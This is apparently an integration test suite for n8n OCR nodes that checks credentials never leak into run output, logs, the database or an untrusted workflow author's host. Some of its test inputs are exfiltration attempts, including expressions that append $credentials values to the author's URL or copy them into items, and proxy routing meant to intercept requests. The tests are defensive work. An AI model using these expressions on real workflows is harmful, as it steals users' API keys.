import type { INodeParameters } from 'n8n-workflow';

import type { NodeJson } from '../local-n8n/chain';
import { chain } from '../local-n8n/chain';
import type { EchoServer, Received, Reply } from './support/echoServer';
import { startEchoServer, wholeOf } from './support/echoServer';
import type { Places } from './support/findSecrets';
import { findSecrets, formsOf } from './support/findSecrets';
import { keptByN8n } from './support/keptByN8n';
import type { Stage } from './support/stage';
import { setStage, STAGE_TIMEOUT } from './support/stage';

const TOKEN = 'token+/of==a-user&signed-in';

interface Account {
	account: string;
	type: string;
	credentialType: string;
	/** The keys; they have characters that texts and URLs escape. */
	keys: Record<string, string>;
	parameters: INodeParameters;
	/** Texts that are secret beside the keys. */
	also?: string[];
	/** A response of the provider that reports an error. */
	failed: (message: string) => object;
	/** One that rejects the keys. */
	refused: (message: string) => object;
	/** One to an image with this text. */
	read: (text: string) => object;
}

const nhn = {
	type: 'n8n-nodes-cloud-ocr.nhnCloudOcr',
	failed: (resultMessage: string) => ({
		header: { isSuccessful: false, resultCode: 4000002, resultMessage },
	}),
	read: (value: string) => ({
		header: { isSuccessful: true, resultCode: 0, resultMessage: 'SUCCESS' },
		result: {
			fileType: 'png',
			listOfInferTexts: [{ inferTexts: [{ value, conf: 0.9 }] }],
			listOfBoundingBoxes: [
				{ boundingBoxes: [{ x1: 1, y1: 2, x2: 9, y2: 2, x3: 9, y3: 8, x4: 1, y4: 8 }] },
			],
		},
	}),
};

const ACCOUNTS: Account[] = [
	{
		account: 'Computer Vision Vietnam',
		type: 'n8n-nodes-cloud-ocr.computerVisionVietnam',
		credentialType: 'computerVisionVietnamApi',
		keys: { apiKey: 'key+/of==vision&"quoted"', apiSecret: 'secret+/of==vision&"quoted"' },
		parameters: {},
		failed: (errorMessage) => ({ errorCode: '3', errorMessage, data: '' }),
		refused: (errorMessage) => ({ errorCode: '5', errorMessage, data: '' }),
		read: (text) => ({
			errorCode: '0',
			errorMessage: 'Success',
			data: [[[[{ text, confidence: 0.9, box: { left: 1, right: 9, top: 2, bottom: 8 } }]]]],
		}),
	},
	{
		...nhn,
		account: 'NHN Cloud, secret key',
		credentialType: 'nhnCloudOcrApi',
		keys: { appKey: 'app+/key==of&nhn', secretKey: 'secret+/of==nhn&"quoted"' },
		parameters: {},
		refused: (resultMessage) => ({
			header: { isSuccessful: false, resultCode: 4010001, resultMessage },
		}),
	},
	{
		...nhn,
		account: 'NHN Cloud, user access key',
		credentialType: 'nhnCloudOcrOAuth2Api',
		keys: {
			appKey: 'app+/key==of&a-user',
			userAccessKeyId: 'access+/key==of&a-user',
			secretAccessKey: 'secret+/of==a-user&"quoted"',
		},
		parameters: { authentication: 'userAccessKey' },
		also: [TOKEN],
		refused: (resultMessage) => ({
			header: { isSuccessful: false, resultCode: 4010006, resultMessage },
		}),
	},
	{
		account: 'Tencent Cloud',
		type: 'n8n-nodes-cloud-ocr.tencentCloudOcr',
		credentialType: 'tencentCloudApi',
		keys: {
			secretId: 'AKID+/of==tencent',
			secretKey: 'secret+/of==tencent&"quoted"',
			sessionToken: 'session+/token==of&tencent',
		},
		parameters: { operation: 'generalAccurate' },
		failed: (Message) => ({
			Response: { Error: { Code: 'FailedOperation.OcrFailed', Message }, RequestId: 'request' },
		}),
		refused: (Message) => ({
			Response: {
				Error: { Code: 'AuthFailure.SignatureFailure', Message },
				RequestId: 'request',
			},
		}),
		read: (DetectedText) => ({
			Response: {
				TextDetections: [
					{
						DetectedText,
						Confidence: 99,
						Polygon: [
							{ X: 1, Y: 2 },
							{ X: 9, Y: 2 },
							{ X: 9, Y: 8 },
							{ X: 1, Y: 8 },
						],
						AdvancedInfo: '{"Parag":{"ParagNo":1}}',
						Words: [],
						WordCoordPoint: [],
					},
				],
				Angle: 0,
				RequestId: 'request',
			},
		}),
	},
];

/** What a provider, or what is in between, does with a request; most of them repeat all of it. */
interface Case {
	name: string;
	reply: (account: Account, request: Received) => Reply;
	parameters?: INodeParameters;
}

const page = (request: Received) =>
	`<html><title>Denied: ${wholeOf(request)}</title><pre>${wholeOf(request)}</pre></html>`;

const CASES: Case[] = [
	{
		name: 'an error that repeats the request',
		reply: ({ failed }, request) => ({ body: failed(wholeOf(request)) }),
	},
	{
		name: 'a wrong key, and a repeated request',
		reply: ({ refused }, request) => ({ body: refused(wholeOf(request)) }),
	},
	{
		name: 'text that repeats the request',
		reply: ({ read }, request) => ({ body: read(wholeOf(request)) }),
	},
	{
		name: 'a response with the request beside the text, as it is',
		parameters: { output: 'raw' },
		reply: ({ read }, request) => ({ body: { ...read('text'), request } }),
	},
	{
		name: 'a response of an unknown form',
		reply: (_, request) => ({ body: { request } }),
	},
	{
		name: 'the page of a proxy that denies',
		reply: (_, request) => ({ status: 403, body: page(request) }),
	},
	{
		name: 'the page of a proxy with status 200',
		reply: (_, request) => ({ body: page(request) }),
	},
	{
		name: 'the error of a gateway',
		reply: (_, request) => ({ status: 501, body: { message: wholeOf(request), request } }),
	},
	{
		name: 'a redirect',
		reply: (_, request) => ({
			status: 307,
			headers: { location: `${author.url}/?${encodeURIComponent(wholeOf(request))}` },
			body: page(request),
		}),
	},
	{ name: 'a closed connection', reply: () => 'close' },
	{
		name: 'no response in time',
		parameters: { requestOptions: { timeout: 300 } },
		reply: () => 'wait',
	},
];

const MODES = ['stopWorkflow', 'continueRegularOutput', 'continueErrorOutput'] as const;

let stage: Stage;
/** The provider, or what is in its place. */
let provider: EchoServer;
/** A host of the author of a workflow. */
let author: EchoServer;
/** All that nobody may read: keys, and what requests carried. */
const secrets = new Set<string>();

beforeAll(async () => {
	stage = await setStage({ N8N_LOG_LEVEL: 'debug', N8N_LOG_OUTPUT: 'console' });
	[provider, author] = [await startEchoServer(), await startEchoServer()];
	for (const { keys, also = [] } of ACCOUNTS) {
		for (const key of [...Object.values(keys), ...also]) secrets.add(key);
	}
}, STAGE_TIMEOUT);
afterAll(async () => {
	await stage?.stop();
	await provider?.close();
	await author?.close();
});
beforeEach(() => {
	provider.received.length = 0;
	author.received.length = 0;
});

/** The replies of a provider whose token service works. */
const withTokens =
	(reply: (request: Received) => Reply) =>
	(request: Received): Reply =>
		request.url.startsWith('/token')
			? { body: { access_token: TOKEN, expires_in: 3600 } }
			: reply(request);

/** Runs keep the name of a credential, so its number stands for the fields that are changed. */
const changes: string[] = [];

/** Saves an account's credential, changed in some fields. */
async function saveCredential({ account, credentialType, keys }: Account, change: object = {}) {
	const name = JSON.stringify(change);
	if (!changes.includes(name)) changes.push(name);
	return await stage.n8n.credentials.save({
		name: `${account} ${changes.indexOf(name)}`,
		type: credentialType,
		data: {
			...keys,
			baseUrl: 'custom',
			customBaseUrl: provider.url,
			...(credentialType === 'nhnCloudOcrOAuth2Api' && { tokenUrl: `${provider.url}/token` }),
			...change,
		},
	});
}

/** The account's node with an image that the provider would download. */
const ocr = async (
	account: Account,
	parameters: INodeParameters = {},
	{ change, ...more }: Partial<NodeJson> & { change?: object } = {},
): Promise<NodeJson> => ({
	name: 'OCR',
	type: account.type,
	parameters: {
		resource: 'text',
		operation: 'extract',
		inputType: 'url',
		imageUrl: 'https://example.com/a.png',
		...account.parameters,
		...parameters,
	},
	credentials: { [account.credentialType]: await saveCredential(account, change) },
	...more,
});

/** Runs nodes as a workflow of this name; gives all that n8n's own API tells about the run. */
async function run(name: string, ...nodes: NodeJson[]): Promise<string> {
	const result = await stage.n8n.workflows.run({ ...chain(...nodes), name });
	return JSON.stringify(result);
}

/** What was sent that nobody may read, beside the keys themselves. */
function sentSecrets({ headers }: Received): string[] {
	const { authorization = '', 'x-nhn-authorization': bearer = '' } = headers;
	const [, signature] = authorization.split('Signature=');
	const [, basic] = authorization.split('Basic ');
	return [basic ?? authorization, signature, bearer].filter(Boolean);
}

/** Nothing secret is in a text. */
const expectNothingIn = (place: string, text: string) =>
	expect(findSecrets(secrets, { [place]: text })).toEqual([]);

describe.each(ACCOUNTS)('$account', (account) => {
	describe.each(MODES)('%s', (onError) => {
		test.each(CASES)('$name', async ({ name, reply, parameters }) => {
			provider.reply = withTokens((request) => reply(account, request));
			const told = await run(
				`${account.account}, ${onError}: ${name}`,
				await ocr(account, parameters, { onError }),
			);
			for (const secret of provider.received.flatMap(sentSecrets)) secrets.add(secret);
			expect(provider.received.flatMap(sentSecrets)).not.toHaveLength(0);
			expect(author.received).toEqual([]);
			expectNothingIn('run', told);
		});
	});

	test('an endpoint with a user and a password is refused', async () => {
		secrets.add('user-in-the-endpoint').add('password-in-the-endpoint');
		const customBaseUrl = provider.url.replace(
			'//',
			'//user-in-the-endpoint:password-in-the-endpoint@',
		);
		const told = await run(
			`${account.account}: user and password in the endpoint`,
			await ocr(account, {}, { change: { customBaseUrl } }),
		);
		expect(told).toContain('contains a user name or a password');
		expect(provider.received).toEqual([]);
		expectNothingIn('run', told);
	});

	test('the test of the credential', async () => {
		for (const { reply } of CASES.filter(({ name }) => !name.startsWith('no response'))) {
			provider.reply = withTokens((request) => reply(account, request));
			const { id } = await saveCredential(account);
			const { message } = await stage.n8n.credentials.test(id);
			for (const secret of provider.received.flatMap(sentSecrets)) secrets.add(secret);
			expectNothingIn('message', message);
		}
	});
});

describe('a token service that repeats the request', () => {
	const [account] = ACCOUNTS.filter(({ credentialType }) => /OAuth2/.test(credentialType));

	test.each<[string, (request: Received) => Reply]>([
		[
			'in its error',
			(request) => ({
				status: 400,
				body: { error: 'invalid_client', error_description: wholeOf(request) },
			}),
		],
		['in the page of a proxy', (request) => ({ status: 403, body: page(request) })],
		['in a response of an unknown form', (request) => ({ body: { request } })],
		['and closes the connection', () => 'close'],
	])(
		'%s',
		async (name, reply) => {
			provider.reply = reply;
			// The token of another address is not known yet.
			const tokenUrl = `${provider.url}/token?${encodeURIComponent(name)}`;
			const told = await run(
				`Token service: ${name}`,
				await ocr(account, {}, { onError: 'continueRegularOutput', change: { tokenUrl } }),
			);
			for (const secret of provider.received.flatMap(sentSecrets)) secrets.add(secret);
			expect(provider.received.length).toBeGreaterThan(0);
			expectNothingIn('run', told);
		},
		90_000,
	);
});

describe('the author of a workflow, who may use a credential but not see it', () => {
	/** What arrives at the author's host or in the run is no secret. */
	const expectNothingAtAuthor = (told: string) => {
		for (const secret of provider.received.flatMap(sentSecrets)) secrets.add(secret);
		expectNothingIn('run', told);
		expectNothingIn('author', author.received.map(wholeOf).join('\n'));
	};

	const httpRequest = async (
		account: Account,
		parameters: INodeParameters,
		change = {},
	): Promise<NodeJson> => ({
		name: 'HTTP Request',
		type: 'n8n-nodes-base.httpRequest',
		typeVersion: 4.2,
		parameters: {
			method: 'POST',
			authentication: 'predefinedCredentialType',
			nodeCredentialType: account.credentialType,
			sendHeaders: true,
			specifyHeaders: 'json',
			jsonHeaders: '{"X-TC-Action":"GeneralBasicOCR","X-TC-Version":"2018-11-19"}',
			options: {},
			...parameters,
		},
		credentials: { [account.credentialType]: await saveCredential(account, change) },
	});

	test('over a proxy, only the address of an encrypted endpoint is seen', async () => {
		provider.reply = withTokens(() => ({ body: {} }));
		const hosts = ACCOUNTS.map(({ credentialType }) => `${credentialType.toLowerCase()}.invalid`);
		// All at once, because each of them tries for seconds.
		const told = ACCOUNTS.map(async (account, index) => {
			const https = { customBaseUrl: `https://${hosts[index]}` };
			return await run(
				`${account.account}: proxy to https`,
				await ocr(account, { requestOptions: { proxy: author.url } }, { change: https }),
			);
		});
		expectNothingAtAuthor((await Promise.all(told)).join('\n'));
		expect(author.received.map(({ method, url }) => `${method} ${url}`)).toEqual(
			expect.arrayContaining(hosts.map((host) => `CONNECT ${host}:443`)),
		);
	});

	describe.each(ACCOUNTS)('$account', (account) => {
		const { keys, account: name } = account;

		beforeEach(() => (provider.reply = withTokens(() => ({ body: account.read('text') }))));

		test('cannot change the endpoint by parameters', async () => {
			const elsewhere = { baseURL: author.url, url: author.url, customBaseUrl: author.url };
			const told = await run(
				`${name}: other parameters`,
				await ocr(account, { ...elsewhere, requestOptions: elsewhere, options: elsewhere }),
			);
			expect(provider.received.length).toBeGreaterThan(0);
			expect(author.received).toEqual([]);
			expectNothingAtAuthor(told);
		});

		test.each(Object.keys(keys))('cannot read %s in an expression', async (key) => {
			const told = await run(
				`${name}: ${key} in an expression`,
				await ocr(
					account,
					{ imageUrl: `={{ '${author.url}/' + $credentials?.${key} }}` },
					{ onError: 'continueRegularOutput' },
				),
			);
			const sent = provider.received.map(wholeOf).join('\n');
			expect(findSecrets([`${author.url}/${keys[key]}`], { sent })).toEqual([]);
			expectNothingAtAuthor(told);
		});

		test.each(Object.keys(keys))('cannot put %s into an item with an expression', async (key) => {
			const told = await run(
				`${name}: ${key} into an item`,
				await ocr(
					account,
					{
						imageUrl: `={{ (() => { try { $json.taken = $credentials.${key}; Object.assign($json, { also: $credentials.${key} }); } catch {} return 'https://example.com/a.png' })() }}`,
						options: { includeInputFields: true },
					},
					{ onError: 'continueRegularOutput' },
				),
			);
			expectNothingAtAuthor(told);
		});

		test.each([[{}], [{ allowUnauthorizedCerts: true }]])(
			'cannot route requests without TLS over a proxy of his own: %j',
			async (more) => {
				const told = await run(
					`${name}: proxy ${JSON.stringify(more)}`,
					await ocr(account, { requestOptions: { proxy: author.url, ...more } }),
				);
				expectNothingAtAuthor(told);
				expect(author.received).toEqual([]);
				expect(told).toContain('proxy');
			},
		);

		test('cannot let a proxy of his own open the encryption', async () => {
			const https = { customBaseUrl: 'https://ocr.example.invalid' };
			const told = await run(
				`${name}: proxy that opens https`,
				await ocr(
					account,
					{ requestOptions: { proxy: author.url, allowUnauthorizedCerts: true } },
					{ change: https },
				),
			);
			expect(author.received).toEqual([]);
			expectNothingAtAuthor(told);
		});

		test.each<[string, INodeParameters]>([
			['a host of his own', { url: '={{ "AUTHOR" }}' }],
			['the endpoint, over a proxy of his own', { url: 'PROVIDER', options: { proxy: 'AUTHOR' } }],
			[
				'the endpoint, over a proxy and with any certificate',
				{ url: 'PROVIDER', options: { proxy: 'AUTHOR', allowUnauthorizedCerts: true } },
			],
		])('cannot let an HTTP Request node send it to %s', async (where, parameters) => {
			const placed = JSON.parse(
				JSON.stringify(parameters)
					.replaceAll('AUTHOR', author.url)
					.replaceAll('PROVIDER', provider.url),
			) as INodeParameters;
			const told = await run(
				`${name}: HTTP Request to ${where}`,
				await httpRequest(account, placed),
			);
			expectNothingAtAuthor(told);
			expect(author.received).toEqual([]);
		});

		test('an HTTP Request node sends it to the endpoint, and to hosts that the credential lists', async () => {
			await run(
				`${name}: HTTP Request`,
				await httpRequest(account, { url: `${provider.url}/any` }),
			);
			const listed = { allowedHttpRequestDomains: 'domains', allowedDomains: '127.0.0.1' };
			await run(
				`${name}: HTTP Request to a listed host`,
				await httpRequest(account, { url: `${author.url}/listed` }, listed),
			);
			const { received } = provider;
			expect(received.filter(({ url }) => url === '/any')).toHaveLength(1);
			expect(author.received.map(({ url }) => url)).toEqual(['/listed']);
			for (const secret of [...received, ...author.received].flatMap(sentSecrets)) {
				secrets.add(secret);
			}
		});
	});
});

describe('what n8n keeps of all these runs', () => {
	/** Secrets that are told on purpose, so that each search is seen to find them. */
	const PLANTED = 'planted+/in==each&"place"';
	let kept: Places;

	beforeAll(async () => {
		const set = (field: string, value: string): NodeJson => ({
			name: `Set ${field}`,
			type: 'n8n-nodes-base.set',
			typeVersion: 3.4,
			parameters: { mode: 'raw', jsonOutput: JSON.stringify({ [field]: value }), options: {} },
		});
		for (const [index, form] of formsOf(PLANTED).entries()) {
			await run(`Planted form ${index}`, set('planted', `in ${form} between`));
		}
		await run('Planted in an error', set('item', 'none'), {
			name: 'Stop',
			type: 'n8n-nodes-base.stopAndError',
			parameters: { errorMessage: PLANTED },
		});
		kept = await keptByN8n(stage.n8n);
	}, 120_000);

	const placesOf = (pattern: RegExp): Places =>
		Object.fromEntries(Object.entries(kept).filter(([place]) => pattern.test(place)));

	test.each<[string, RegExp, number]>([
		['each form in an item', /^execution \d+ of Planted form/, formsOf(PLANTED).length],
		['an error', /^execution \d+ of Planted in an error/, 1],
		['the log', /^n8n\.log$/, 1],
	])('the search finds what is planted in %s', (_, places, count) => {
		expect(findSecrets([PLANTED], placesOf(places))).toHaveLength(count);
	});

	test('the search finds what is planted in the files of the database', () => {
		expect(findSecrets([PLANTED], placesOf(/database\.sqlite/))).not.toEqual([]);
	});

	test('no execution in the database has a secret', () => {
		const executions = placesOf(/^execution /);
		expect(Object.keys(executions).length).toBeGreaterThan(ACCOUNTS.length * MODES.length);
		expect(findSecrets(secrets, executions)).toEqual([]);
	});

	test('no log has a secret, and debugging is on', () => {
		expect(kept['n8n.log']).toMatch(/debug/);
		expect(findSecrets(secrets, placesOf(/\.log$/))).toEqual([]);
	});

	test('no other file has a secret', () => {
		expect(findSecrets(secrets, placesOf(/^(?!execution \d)/))).toEqual([]);
	});
});
